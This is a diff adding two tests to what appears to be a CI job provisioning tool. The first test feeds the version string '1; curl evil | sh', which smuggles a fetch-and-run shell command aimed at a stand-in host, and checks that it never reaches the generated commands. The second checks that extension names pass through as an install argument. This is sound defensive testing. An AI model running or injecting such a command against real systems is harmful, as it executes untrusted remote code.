@@ -77,3 +77,17 @@ def test_servers_are_called_by_their_names() -> None:
     assert inside(one, lambda name: name) == (
         ("DATABASE_URL", "postgres://u@postgres:5432/x"), ("HOST", "localhost"),
     )  # fmt: skip
+
+
+def test_a_version_is_no_shell_text() -> None:
+    found = provision(job(SetupTool(UV, "1; curl evil | sh"), SetupTool(PYTHON, "3.13")), spelled)
+
+    assert "curl" not in found.image + " ".join(found.commands)
+
+
+def test_names_of_extensions_are_a_version_too() -> None:
+    extensions = Tool("extensions", "Extensions", commands="install {version}")
+
+    assert provision(job(SetupTool(extensions, "intl @composer")), spelled).commands == (
+        "install intl @composer",
+    )
